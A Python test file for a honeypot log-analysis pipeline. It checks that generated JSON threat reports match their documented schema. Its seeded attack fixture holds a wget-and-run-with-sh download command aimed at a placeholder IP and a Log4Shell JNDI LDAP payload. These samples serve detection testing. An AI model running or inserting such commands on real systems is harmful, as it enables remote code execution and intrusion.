"""The report as JSON: by its schema, which is in docs/, whoever made it and however long ago."""

import json
import runpy

from jsonschema import Draft202012Validator
from sqlalchemy import Engine, update

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.published import json_schema, published
from rustbucket_pipeline.analysis.report import build_analysis, report_at_once
from rustbucket_pipeline.analysis.stored import kept_report
from rustbucket_pipeline.settings import PROJECT_ROOT, Settings
from rustbucket_pipeline.storage.analysis_tables import log_analyses
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, request, tell

VALIDATOR = Draft202012Validator(json_schema(), format_checker=Draft202012Validator.FORMAT_CHECKER)
ATTACK = [
    command("wget http://203.0.113.9/x; sh x \x00\u202e".replace("\x00", ""), src_ip="203.0.113.5"),
    request("/?x=${jndi:ldap://203.0.113.9/a}", 1),
]


def test_the_schema_in_docs_is_made_from_the_code() -> None:
    maker = runpy.run_path(str(PROJECT_ROOT / "docs" / "report_schema.py"))
    assert maker["SCHEMA"].read_text(encoding="utf-8") == maker["schema"]()
    Draft202012Validator.check_schema(json_schema())


def test_what_is_printed_keeps_to_the_schema_and_names_all_it_promises(database: Engine, with_claude: Settings) -> None:
    tell(database, ATTACK)
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, with_claude, WINDOW, NOW, None)
    with database.connect() as connection:
        kept = kept_report(connection, WINDOW)
    assert kept is not None
    document = json.loads(published(kept.report, kept).model_dump_json())
    VALIDATOR.validate(document)
    promised = ("window", "status", "severity", "completeness", "findings", "indicators", "prose", "usage", "versions")
    assert set(promised) <= document.keys()
    assert (document["usage"], document["cost_usd"]) == ({"tokens_in": 10_000, "tokens_out": 500}, 0.00125)
    assert (document["revision"], document["request_ids"]) == (1, ["req_1"])
    for finding in document["findings"]:
        assert {"id", "rule", "title", "severity", "technique", "rows", "rustbuckets", "why"} <= finding.keys()
    assert any("CVE-2021-44228" in finding["cve"] for finding in document["findings"])
    for indicator in document["indicators"]:
        assert indicator["rows"]
        assert {"type", "value", "first_seen"} <= indicator.keys()
    assert {"digest", "report", "prompt", "schema", "rules", "parser", "digest_sha256"} <= document["versions"].keys()
    assert document["versions"]["parser"] == "1"


def test_a_report_made_at_once_keeps_to_it_too(database: Engine) -> None:
    with database.connect() as connection:
        document = published(report_at_once(connection, WINDOW)).model_dump(mode="json")
    VALIDATOR.validate(document)
    assert (document["revision"], document["cost_usd"]) == (None, 0)


def test_reports_stored_before_there_were_excerpts_are_still_read(database: Engine, settings: Settings) -> None:
    tell(database, ATTACK)
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, settings, WINDOW, NOW, None)
    with database.begin() as connection:
        document = connection.execute(log_analyses.select()).one().report
        del document["excerpts"]
        for finding in document["findings"]:
            del finding["cve"]
        for indicator in document["indicators"]:
            del indicator["rows"]
            indicator["first"] = indicator.pop("first_seen")
        connection.execute(update(log_analyses).values(report={**document, "version": 1}))
        kept = kept_report(connection, WINDOW)
    assert kept is not None
    VALIDATOR.validate(published(kept.report, kept).model_dump(mode="json"))
